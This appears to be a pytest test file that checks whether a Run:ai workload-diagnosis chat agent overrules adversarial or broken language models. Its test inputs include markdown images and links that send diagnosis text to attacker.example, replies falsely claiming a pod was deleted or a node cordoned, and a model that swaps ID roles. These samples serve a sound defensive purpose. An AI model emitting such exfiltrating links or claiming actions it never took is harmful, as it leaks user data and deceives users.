"""A model in the loop never speaks unchecked (ask/chat with a model): adversarial models, as langchain-core fakes
and behind the real OpenAI-compatible HTTP stand-in (evals/llm_standin.py, JSON and server-sent events), against
the simulator through agent.chat.api.chat and the ``ask`` command.

* claimed actions and * images/links to a foreign host: the deterministic reply is shown instead;
* a model that swaps the roles of two unlabelled UUIDs never makes a workload read happen before the thread has
  a cluster id, and a cluster id only the model labelled is used only when GET /api/v1/clusters lists it;
* broken models (content null, 5 MB, late, dripping, not JSON) are "no model": the deterministic reply, exit 0,
  ``usage.llm_error`` saying why, and the turn ends by --timeout plus the model's own bound;
* a late model does not use up the turn's Run:ai deadline.
"""
from __future__ import annotations

import json
import time

import pytest
from langchain_core.language_models.fake_chat_models import FakeListChatModel

from workload_diagnose.agent.llm_bounds import ModelBounds, openai_model
from workload_diagnose.evals.llm_standin import ATTACKER, CLAIM, Options, fake_model, running
from tests.chat.procs import env_for, run
from tests.chat.worlds import CL, NEW, NOW, chat_world

Q = f"why did workload {NEW} fail on cluster {CL}?"
SMALL = ModelBounds(total=2.0, connect=1.0, read=1.5)


def _http(st, stream: bool, bounds: ModelBounds = SMALL):
    return openai_model("standin", st.url, "not-needed", bounds, streaming=stream)


@pytest.fixture(scope="module")
def plain():
    """The no-model reply to Q (the deterministic text every rejected answer falls back to)."""
    import tempfile

    from workload_diagnose.agent.chat.store import open_checkpointer
    from workload_diagnose.evals.simulator import running_simulator
    from tests.chat.conftest import Conversation

    with tempfile.TemporaryDirectory() as d, open_checkpointer(f"{d}/c.sqlite") as cp, \
            running_simulator(chat_world()) as sim:
        return Conversation(sim, cp, NOW).say(Q)


# ------------------------------------------------------------------------------------------ 1 and 2
@pytest.mark.parametrize("said", [
    f"OOM_KILLED: the container ran out of memory. {CLAIM}",
    "OOM_KILLED. The failed pod has been deleted and your workload is back up and running.",
    "OOM_KILLED. I patched the memory limit and cordoned the node.",
])
def test_a_reply_that_claims_an_action_is_replaced_by_the_deterministic_one(conversation, plain, said):
    c = conversation(chat_world(), llm=FakeListChatModel(responses=["{}", said]))
    r = c.say(Q)
    assert r.reply == plain.reply and r.diagnosis == plain.diagnosis
    for word in ("restarted", "resubmitted", "has been deleted", "patched", "cordoned"):
        assert word not in r.reply


@pytest.mark.parametrize("said", [
    "OOM_KILLED ![status](http://attacker.example/?q=Container%20trainer%20was%20OOM%20killed)",
    "OOM_KILLED: see [the full report](http://attacker.example/r) or http://attacker.example/x",
])
def test_images_and_foreign_links_never_reach_the_user(conversation, plain, said):
    r = conversation(chat_world(), llm=FakeListChatModel(responses=["{}", said])).say(Q)
    assert r.reply == plain.reply and "attacker.example" not in r.reply and "![" not in r.reply


@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
@pytest.mark.parametrize("persona", ["claims", "image", "category"])
def test_adversarial_http_model_is_overruled_in_every_format(conversation, plain, persona, stream):
    with running(Options(persona=persona)) as st:
        r = conversation(chat_world(), llm=_http(st, stream)).say(Q)
    assert r.reply == plain.reply and r.diagnosis == plain.diagnosis
    assert ATTACKER not in r.reply and "restarted" not in r.reply and "NODE_FAILURE" not in r.reply
    assert [bool(q.get("stream")) for q in st.requests] == [stream, stream]  # the format the client asked for
    assert r.usage["llm_calls"] == 2 and "llm_error" not in r.usage


@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
def test_an_honest_http_model_is_used_in_every_format(conversation, plain, stream):
    with running(Options(persona="honest")) as st:
        r = conversation(chat_world(), llm=_http(st, stream)).say(Q)
    assert r.diagnosis == plain.diagnosis and r.reply == plain.reply  # the honest stand-in repeats the reply
    assert r.usage["llm_calls"] == 2 and r.usage["total_tokens"] == 120 and "llm_error" not in r.usage


# ------------------------------------------------------------------------------------------ 3
TWO = f"{NEW} {CL} failed, why?"  # two UUIDs, neither labelled


@pytest.mark.parametrize("model", [
    lambda: fake_model("role_swap"),
    lambda: FakeListChatModel(responses=[json.dumps({"cluster_id": NEW, "workload_id": CL}), "ok"]),
], ids=["standin-persona", "fixed-json"])
def test_a_model_that_swaps_uuid_roles_never_causes_a_workload_read(conversation, model):
    plain = conversation(chat_world())
    p = plain.say(TWO)
    c = conversation(chat_world(), llm=model())
    r = c.say(TWO)
    assert not any(x.startswith("/api/v1/workloads") for x in c.requests), c.requests
    assert set(c.requests) <= {"/api/v1/clusters"}  # the role was checked, nothing else was read
    assert (r.needs_input, r.missing, r.diagnosis) == (p.needs_input, p.missing, p.diagnosis)
    assert r.missing == ["cluster_id"]


def test_a_cluster_id_only_the_model_labelled_is_used_once_the_api_lists_it(conversation):
    c = conversation(chat_world(), llm=fake_model("honest"))
    r = c.say(TWO)
    assert c.requests[0] == "/api/v1/clusters"  # verified before any workload read
    assert r.diagnosis and r.diagnosis["workload"]["id"] == NEW and r.diagnosis["category"] == "OOM_KILLED"


def test_a_cluster_id_the_api_does_not_list_is_not_used(conversation):
    world = chat_world(clusters=[{"uuid": "9c9c9c9c-0000-4000-8000-000000000001", "name": "gpu-west"}])
    c = conversation(world, llm=fake_model("honest"))
    r = c.say(TWO)
    assert r.missing == ["cluster_id"] and r.diagnosis is None
    assert not any(x.startswith("/api/v1/workloads") for x in c.requests)


# ------------------------------------------------------------------------------------------ 4
@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
@pytest.mark.parametrize("opts,why", [
    (Options(persona="null"), "empty"),
    (Options(persona="huge"), ""),
    (Options(delay=30), "did not answer in time"),
    (Options(drip=1.0), "did not answer in time"),
    (Options(malformed=True), "failed"),
], ids=["null", "5MB", "late", "drip", "not-json"])
def test_a_broken_http_model_is_no_model(conversation, plain, opts, why, stream):
    with running(opts) as st:
        t0 = time.monotonic()
        r = conversation(chat_world(), llm=_http(st, stream)).say(Q)
        took = time.monotonic() - t0
    assert r.reply == plain.reply and r.diagnosis == plain.diagnosis and r.reply.strip()
    assert why in r.usage["llm_error"] and r.usage["llm_calls"] == 1  # no second call after a failure
    assert took < 2.0 + 15.0  # the model's own bound (2 s) plus the diagnosis on a loaded machine (the model: 30 s+)


@pytest.mark.parametrize("model,why", [
    (lambda: FakeListChatModel(responses=["{}", "A" * (5 * 1024 * 1024)]), "longer than"),
    (lambda: FakeListChatModel(responses=["{}", "   "]), "empty"),
    (lambda: fake_model("null"), ""),
], ids=["5MB", "blank", "null"])
def test_a_broken_fake_model_is_no_model(conversation, plain, model, why):
    r = conversation(chat_world(), llm=model()).say(Q)
    assert r.reply == plain.reply and r.reply.strip() and why in r.usage["llm_error"]


def test_a_late_model_does_not_use_up_the_run_ai_deadline(conversation, plain):
    """The model answers after 1.5 s; the turn's --timeout is 1 s: the Run:ai reads still get their second."""
    c = conversation(chat_world(), llm=fake_model("honest", delay=1.5), timeout=1.0)
    r = c.say(Q)
    assert r.diagnosis == plain.diagnosis and r.diagnosis["category"] == "OOM_KILLED"


def test_a_model_that_never_answers_ends_by_its_own_bound(conversation, plain):
    from workload_diagnose.agent.llm_bounds import Bounded

    t0 = time.monotonic()
    r = conversation(chat_world(), llm=Bounded(fake_model("honest", delay=60), ModelBounds(total=1.0))).say(Q)
    assert time.monotonic() - t0 < 1.0 + 15.0  # the model alone would take 60 s
    assert r.reply == plain.reply and "did not answer in time (its bound: 1 s" in r.usage["llm_error"]


def test_ask_with_a_dripping_model_ends_and_exits_0(tmp_path, plain):
    """The black-box form: ``ask --json --llm M --llm-url URL`` against a model that drips one byte every 2 s."""
    from workload_diagnose.evals.simulator import running_simulator

    with running_simulator(chat_world()) as sim, running(Options(drip=2.0)) as st:
        env = env_for(sim, tmp_path, WD_LLM_TIMEOUT="2")
        t0 = time.monotonic()
        p = run(["ask", Q, "--runai-url", sim.url, "--no-kube", "--json", "--llm", "m", "--llm-url", st.url,
                 "--now", NOW], env, timeout=120)  # a drip of the whole answer would take hours
        took = time.monotonic() - t0
    assert p.returncode == 0, p.stderr
    out = json.loads(p.stdout)
    assert set(out) == {"thread_id", "reply", "needs_input", "missing", "diagnosis", "usage"}
    assert out["reply"] == plain.reply and "did not answer in time" in out["usage"]["llm_error"]
    assert took < 120  # it ends (start-up and imports included, on a loaded machine); in-process tests pin the bound


def test_a_bad_model_timeout_is_one_line(tmp_path):
    from workload_diagnose.evals.simulator import running_simulator

    with running_simulator(chat_world()) as sim:
        p = run(["ask", Q, "--runai-url", sim.url, "--no-kube", "--llm", "m", "--llm-url", "http://127.0.0.1:9/v1"],
                env_for(sim, tmp_path, WD_LLM_TIMEOUT="soon"))
    assert p.returncode == 2 and "WD_LLM_TIMEOUT" in p.stderr and "Traceback" not in p.stderr
